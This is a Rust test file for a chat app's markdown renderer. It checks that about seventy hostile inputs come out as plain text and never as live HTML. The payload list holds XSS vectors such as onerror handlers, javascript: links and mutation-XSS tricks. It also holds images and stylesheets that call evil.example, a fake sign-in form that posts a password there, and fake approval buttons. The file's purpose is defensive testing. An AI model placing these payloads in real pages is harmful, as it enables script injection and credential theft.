//! Text that means harm. Whatever it says, it is shown and does nothing: no
//! request, no link, no control, no look of the app's own parts.

use crate::web::markdown::{Sealer, block, render};

const PAYLOADS: &[&str] = &[
    "![p](https://evil.example/a.png)",
    "![p](https://evil.example/a.png \"title\")",
    "![p][r]\n\n[r]: https://evil.example/a.png",
    "[r]: https://evil.example/a.png\n\n![p][r] ![r] [r]",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](mailto:x@evil.example?body=grades)",
    "[a](//evil.example)",
    "[a](https://good.example@evil.example/)",
    "[a](https://xn--ggle-0nda.example/)",
    "[https://good.example](https://evil.example)",
    "[a](https://evil.example/?q=\"onmouseover=x)",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "https://evil.example/auto www.evil.example a@evil.example",
    "[![p](https://evil.example/i)](https://evil.example/l)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/i.png\">",
    "<svg onload=alert(1)><image href=\"https://evil.example\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<div class=\"receipt good\" data-key=r1><span class=stamp>Sent 14:02</span></div>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<form class=\"letter\" action=\"/approvals/1\"><button name=decision value=send>Approve</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=https://evil.example>x</a>",
    "<a href=\"/auth/logout\" id=side popover>x</a>",
    "<video poster=https://evil.example><audio src=https://evil.example>",
    "<table background=https://evil.example><td onclick=x>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<template><img src=x onerror=alert(1)></template>",
    "| <img src=x onerror=alert(1)> | [a](javascript:x) |\n|---|---|\n| <script>x</script> | ![p](https://evil.example) |",
    "| a\" onfocus=alert(1) autofocus x=\" |\n|---|\n| b |",
    "> <img src=x>\n> - <script>x</script>\n>   1. [a](javascript:x)",
    "```html\n<img src=x onerror=alert(1)>\n```\n<img src=x>",
    "```\" onclick=alert(1)\nx\n```",
    "```<script>\nx\n```",
    "<ol start=\"1 onclick=x\"><li>x</ol>",
    "~~~\n</code></pre><script>x</script>\n~~~",
    "`</code><img src=x>`",
    "- [x] <input type=checkbox onclick=x>\n- [ ] box",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "$$\\href{javascript:x}{y}$$ \\(x\\)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "\u{0}<img src=x\u{0}onerror=alert(1)>",
    "# <img src=x> [a](javascript:x) {#side onclick=x}",
    "<div class=\"sheet\" role=\"region\" tabindex=\"0\" aria-label=\"x\">",
    "<td class=\"warn\">At risk</td>",
    "**Sent ✔ 14:02** to Mateo\n\n[Approve](/approvals/1)",
];

const TAGS: [&str; 23] = [
    "p",
    "br",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
];

fn allowed(tag: &str, attribute: &str, value: &str) -> bool {
    match (tag, attribute) {
        ("td", "class") => ["n", "c", "good", "warn", "bad", "plain"].contains(&value),
        ("th", "class") => ["n", "c"].contains(&value),
        ("th", "scope") => value == "col",
        ("ol", "start") => value.bytes().all(|sign| sign.is_ascii_digit()),
        ("div", "class") => value == "sheet",
        ("div", "role") => value == "region",
        ("div", "tabindex") => value == "0",
        ("div", "aria-label") => value.starts_with("Table: "),
        _ => false,
    }
}

/// Every element and attribute that a browser would make of it is one of ours.
fn census(html: &str, from: &str) {
    let page = scraper::Html::parse_fragment(html);
    let all = scraper::Selector::parse("html > *, html > * *").unwrap();
    for element in page.select(&all).map(|found| found.value()) {
        assert!(TAGS.contains(&element.name()), "<{}> from {from:?}: {html}", element.name());
        for (attribute, value) in element.attrs() {
            assert!(allowed(element.name(), attribute, value), "{attribute}={value:?} from {from:?}: {html}");
        }
    }
}

#[test]
fn nothing_hostile_becomes_more_than_text() {
    for payload in PAYLOADS {
        for text in [
            payload.to_string(),
            format!("Words {payload} words"),
            format!("- a\n\n  {payload}"),
            format!("> {payload}"),
        ] {
            census(render(&text).as_str(), &text);
        }
    }
}

#[test]
fn nothing_hostile_gets_through_at_any_cut() {
    for payload in PAYLOADS {
        for (at, _) in payload.char_indices() {
            let mut sealer = Sealer::new();
            let mut html = sealer.push("Before.\n\n").sealed.to_string();
            for piece in [&payload[..at], &payload[at..], "\n\nAfter."] {
                html.push_str(sealer.push(piece).sealed.as_str());
                census(&html, payload);
            }
            html.push_str(sealer.finish().sealed.as_str());
            census(&html, payload);
        }
    }
}

#[test]
fn the_cleaner_holds_alone_when_raw_html_reaches_it() {
    for payload in PAYLOADS {
        census(&block::clean(payload), payload);
    }
    // What it would let through if it were no cleaner, so that the census above is seen to look.
    let caught = std::panic::catch_unwind(|| census("<img src=x>", "control")).is_err();
    assert!(caught);
}

#[test]
fn the_tree_holds_alone_when_nothing_cleans_after_it() {
    for payload in PAYLOADS {
        let html = block::uncleaned(payload);
        let tags: Vec<&str> = html
            .split('<')
            .skip(1)
            .map(|rest| rest.split([' ', '>', '/']).find(|name| !name.is_empty()).unwrap_or(""))
            .collect();
        assert!(tags.iter().all(|tag| TAGS.contains(tag)), "{payload:?}: {html}");
        assert!(!html.contains("href=") || html.contains('&'), "{payload:?}: {html}");
    }
}

#[test]
fn deep_nesting_ends_in_plain_text() {
    assert!(!render(&"> ".repeat(200)).as_str().contains(&"<blockquote>\n".repeat(30)));
    for (sign, times) in
        [("> ", 5_000), ("- ", 5_000), ("*a **b ", 3_000), ("[", 5_000), ("<div>", 2_000), ("`", 10_000)]
    {
        let started = std::time::Instant::now();
        census(render(&sign.repeat(times)).as_str(), sign);
        assert!(started.elapsed().as_secs() < 10, "{sign:?} took {:?}", started.elapsed());
    }
}
